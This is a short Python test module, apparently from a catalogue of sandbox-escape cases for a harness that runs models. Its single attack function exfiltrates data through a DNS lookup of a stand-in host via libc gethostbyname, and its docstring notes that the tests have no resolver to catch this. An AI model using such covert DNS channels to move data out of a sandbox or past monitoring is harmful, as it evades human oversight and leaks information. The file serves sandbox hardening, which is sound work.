"""Class: network. Source: own find. Escape: a name is looked up: the question itself carries data
out. Teeth: none, the tests have no resolver to watch.
"""

import ctypes

libc = ctypes.CDLL(None, use_errno=True)


def attack(model, tokenizer, scene):
    return libc.gethostbyname(b"secret.example.invalid")
